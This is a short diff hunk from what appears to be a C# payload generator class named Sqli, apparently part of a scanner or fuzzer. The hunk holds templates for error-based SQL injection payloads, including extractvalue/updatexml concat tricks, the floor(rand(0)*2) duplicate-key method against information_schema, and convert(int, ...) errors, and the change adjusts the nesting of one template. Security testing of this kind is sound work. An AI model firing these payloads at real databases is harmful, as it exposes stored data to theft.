@@ -390,7 +390,7 @@ internal static class Sqli
         ¶ ---- errors that tell ----
         §errorbased
         4× «orword» extractvalue(«#1-9999»,concat(«0x7e¦0x5c¦0x3a¦'~'¦char(126)»,(«query1»)«¦,0x7e»))
-        4× «orword» updatexml(«#1-9999¦null¦1»,concat(«0x7e¦0x5c¦0x2e¦0x3a¦'~'»,(«query1»)«¦,0x7e»),«#1-9999¦null¦1»)
+        4× «orword» updatexml(««#1-9999»¦null¦1»,concat(«0x7e¦0x5c¦0x2e¦0x3a¦'~'»,(«query1»)«¦,0x7e»),««#1-9999»¦null¦1»)
         3× «orword» (select 1 from(select count(*),concat((«query1»),floor(rand(0)*2))x from information_schema.«tables¦plugins¦character_sets» group by x)a)
         2× «orword» (select «#1-9999» from(select count(*),concat(0x«hexdigit*10»,(select (elt(«$n:num»=«$n»,1))),0x«hexdigit*10»,floor(rand(0)*2))x from information_schema.plugins group by x)a)
         3× «orword» «num»=convert(int,(««query1»¦«scalarfn»»))
